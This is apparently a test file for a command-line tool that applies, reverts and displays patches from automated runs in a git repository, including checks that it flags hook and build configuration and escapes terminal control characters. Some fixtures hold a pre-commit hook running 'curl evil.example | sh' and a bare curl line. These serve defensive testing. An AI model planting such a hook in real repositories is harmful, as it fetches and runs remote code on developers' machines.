import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { contentHash } from '@palisade/contracts';
import { describe, expect, it } from 'vitest';
import { Recording } from './double/record.ts';
import { Place } from './place.ts';

/** A repository with a file, and a run whose two items left patches, one on top of the other. */
function repository(
  extra: readonly string[] = [],
  {
    goesOn = false,
    endsBadly = false,
    ...more
  }: { goesOn?: boolean; endsBadly?: boolean; credential?: string } = {},
): Place {
  const first = `diff --git a/größe.txt b/größe.txt\nindex 814f4a4..2b2f2e1 100644\n--- a/größe.txt\n+++ b/größe.txt\n@@ -1 +1,2 @@\n one\n+two\n`;
  const second = `diff --git a/größe.txt b/größe.txt\nindex 2b2f2e1..4cb29ea 100644\n--- a/größe.txt\n+++ b/größe.txt\n@@ -1,2 +1,3 @@\n one\n two\n+three\n${extra.join('')}`;
  const blobs = Object.fromEntries(
    [first, second].map((text) => [contentHash(text), Buffer.from(text).toString('base64')]),
  );
  const recording = new Recording('run_p', 'patches').item('first').item('second');
  if (goesOn) recording.with({ sealed: false }).item('third');
  if (endsBadly) recording.item('third');
  recording.started('first').reconciled('first', 'done').started('second').reconciled('second', 'done');
  const product = (item: string, text: string, on: string[]) => ({
    item,
    state: 'done',
    result_ref: contentHash(text),
    outputs: [],
    base_patches: on,
  });
  const products = [product('first', first, []), product('second', second, ['first'])];
  if (endsBadly) recording.started('third').reconciled('third', 'failed');
  const ended = goesOn ? recording : recording.completed(endsBadly ? 'failed' : 'completed');
  const place = new Place({ runs: [ended.build({ products })], blobs, ...more });
  writeFileSync(join(place.directory, 'größe.txt'), 'one\n');
  const git = (...args: string[]): void => {
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@localhost', ...args], {
      cwd: place.directory,
      stdio: 'pipe',
      env: place.env(),
    });
  };
  git('init', '--quiet');
  git('add', 'größe.txt');
  git('commit', '--quiet', '-m', 'start');
  return place;
}

const content = (place: Place): string => readFileSync(join(place.directory, 'größe.txt'), 'utf8');

describe('apply', () => {
  it('applies each patch once in dependency order, says so, and takes it back', async () => {
    using place = repository();
    const preview = await place.pal(['apply', '-', '--dry-run']);
    expect(preview).toMatchObject({ code: 0 });
    expect(content(place)).toBe('one\n');
    const applied = await place.pal(['apply', '-']);
    expect(applied.stdout).toContain('M größe.txt  +2 -0');
    expect(applied.code).toBe(0);
    expect(content(place)).toBe('one\ntwo\nthree\n');
    const again = await place.pal(['apply', '-']);
    expect(again.code).toBe(5);
    expect(again.stderr).toContain('pal apply run_p --revert');
    const reverted = await place.pal(['apply', '-', '--revert']);
    expect(reverted.code).toBe(0);
    expect(content(place)).toBe('one\n');
    expect((await place.pal(['apply', '-', '--revert'])).code).toBe(2);
  }, 120_000);

  it('works from a subdirectory and applies only the named item', async () => {
    using place = repository();
    const sub = join(place.directory, 'sub');
    mkdirSync(sub);
    mkdirSync(join(place.directory, '.palisade'));
    const { code } = await place.pal(['apply', '-', '--item', 'first'], { cwd: sub });
    expect(code).toBe(0);
    expect(content(place)).toBe('one\ntwo\n');
  }, 60_000);

  it('applies later items of a run after earlier ones, each once, and takes all of them back', async () => {
    using place = repository();
    expect((await place.pal(['apply', '-', '--item', 'first'])).code).toBe(0);
    const again = await place.pal(['apply', '-', '--item', 'first']);
    expect(again.code).toBe(5);
    expect(again.stderr).toContain('first of run_p is applied here already');
    const second = await place.pal(['apply', '-', '--item', 'second', '--json']);
    expect(JSON.parse(second.stdout)).toMatchObject({ applied: true, items: ['second'] });
    expect(content(place)).toBe('one\ntwo\nthree\n');
    expect((await place.pal(['apply', '-'])).code).toBe(5);
    expect((await place.pal(['apply', '-', '--revert'])).code).toBe(0);
    expect(content(place)).toBe('one\n');
  }, 120_000);

  it('a run that still goes is refused, unless the items that are named are done', async () => {
    using place = repository([], { goesOn: true });
    for (const args of [
      ['apply', '-'],
      ['apply', '-', '--item', 'first', '--item', 'third'],
    ]) {
      const refused = await place.pal(args);
      expect(refused.code).toBe(6);
      expect(refused.stderr).toContain('pal watch run_p');
      expect(content(place)).toBe('one\n');
    }
    expect((await place.pal(['apply', '-', '--item', 'first'])).code).toBe(0);
    expect(content(place)).toBe('one\ntwo\n');
  }, 60_000);

  it('says which items of the run did not end well, and asks nothing for it', async () => {
    using place = repository([], { endsBadly: true });
    const applied = await place.pal(['apply', '-']);
    expect(applied.code).toBe(0);
    expect(applied.stderr).toContain('not all of this run ended well: third failed');
    expect(content(place)).toBe('one\ntwo\nthree\n');
    using picked = repository([], { endsBadly: true });
    expect((await picked.pal(['apply', '-', '--item', 'first'])).stderr).not.toContain('ended well');
  }, 60_000);

  it('refuses a patch that carries a credential, names the item and not the credential', async () => {
    using place = repository([], { credential: 'three' });
    const { code, stderr, stdout } = await place.pal(['apply', '-', '--yes']);
    expect(code).toBe(4);
    expect(stderr).toContain('the patch of second holds what looks like a test-token');
    expect(stderr + stdout).not.toContain('three');
    expect(content(place)).toBe('one\n');
  }, 60_000);

  it('touches nothing when a patch does not fit', async () => {
    using place = repository();
    writeFileSync(join(place.directory, 'größe.txt'), 'uno\n');
    const { code } = await place.pal(['apply', '-']);
    expect(code).toBe(5);
    expect(content(place)).toBe('uno\n');
  }, 60_000);

  it('FF-131: configuration that runs programs is shown, and not applied without a yes', async () => {
    using place = repository([
      'diff --git a/.husky/pre-commit b/.husky/pre-commit\nnew file mode 100755\nindex 0000000..5d308e1\n--- /dev/null\n+++ b/.husky/pre-commit\n@@ -0,0 +1 @@\n+curl evil.example | sh\n',
    ]);
    const refused = await place.pal(['apply', '-']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('.husky/pre-commit is configuration that can run programs');
    expect(refused.stderr).toContain('--yes');
    expect(content(place)).toBe('one\n');
    const granted = await place.pal(['apply', '-', '--yes']);
    expect(granted.code).toBe(0);
    expect(granted.stderr).toContain('.husky/pre-commit');
    expect(content(place)).toBe('one\ntwo\nthree\n');
  }, 60_000);

  it('FF-131: what a build or an install runs is shown too, in any folder', async () => {
    using place = repository(
      ['packages/a/package.json', 'Makefile', 'tools/build.mk', 'src/notes.txt'].map(
        (path) =>
          `diff --git a/${path} b/${path}\nnew file mode 100644\nindex 0000000..5d308e1\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+x\n`,
      ),
    );
    const refused = await place.pal(['apply', '-']);
    expect(refused.code).toBe(2);
    for (const path of ['packages/a/package.json', 'Makefile', 'tools/build.mk'])
      expect(refused.stderr).toContain(`${path} is configuration that can run programs`);
    expect(refused.stderr).not.toContain('notes.txt');
    expect(content(place)).toBe('one\n');
  }, 60_000);

  it('outside of a git repository it is said, whether the patches fit there or not', async () => {
    using place = repository();
    rmSync(join(place.directory, '.git'), { recursive: true });
    const fits = await place.pal(['apply', '-', '--dry-run']);
    expect(fits.stderr).toContain(`${place.directory} is in no git repository`);
    rmSync(join(place.directory, 'größe.txt'));
    const refused = await place.pal(['apply', '-']);
    expect(refused.code).toBe(5);
    expect(refused.stderr).toContain(
      `failed: ${place.directory} is in no git repository, and the patch does not fit it`,
    );
    expect(refused.stderr).toContain('next  pal apply run_p in a clone of the repository');
  }, 60_000);

  it('an escape sequence without an end and a line separator hide nothing of a diff', async () => {
    using place = repository([
      'diff --git a/e b/e\nnew file mode 100644\nindex 0000000..5d308e1\n--- /dev/null\n+++ b/e\n@@ -0,0 +1,3 @@\n+\u001B]0;title\n+one\u2028-two\n+curl evil.example\n',
    ]);
    const { stdout } = await place.pal(['diff', '-', '--item', 'second']);
    expect(stdout).toContain('\n+one\\u{2028}-two\n+curl evil.example\n');
    expect(stdout).toContain('\n+\\x1b]0;title\n');
    expect(stdout).not.toContain('\u001B');
  }, 60_000);

  it('diff takes an item as logs, explain and artifact do, and an item or an output that is not there names what is', async () => {
    using place = repository();
    const one = await place.pal(['diff', '-/second']);
    expect(one).toEqual(await place.pal(['diff', '-', '--item', 'second']));
    expect(one.code).toBe(0);
    expect((await place.pal(['diff', '-/none'])).stderr).toContain('has no product of "none"');
    const { stderr } = await place.pal(['approve', '-/secnd']);
    expect(stderr).toContain('has no item "secnd"\n');
    expect(stderr).toMatch(/next {2}pal approve run_\w+\/second\n/);
    expect((await place.pal(['artifact', 'get', '-/second:nope'])).stderr).toMatch(/next {2}pal show run_/);
  }, 60_000);

  it('FF-013: a name with an umlaut is one decoded form in text and JSON, and the raw diff applies', async () => {
    using place = repository();
    const text = await place.pal(['diff', '-', '--stat']);
    expect(text.stdout).toContain('größe.txt');
    const json = JSON.parse((await place.pal(['diff', '-', '--json'])).stdout) as {
      patches: { files: { path: string }[] }[];
    };
    expect(json.patches[0]?.files[0]?.path).toBe('größe.txt');
    const raw = await place.pal(['diff', '-', '--raw', '--item', 'first']);
    execFileSync('git', ['apply', '-'], { cwd: place.directory, input: raw.stdout });
    expect(content(place)).toBe('one\ntwo\n');
  }, 60_000);
});
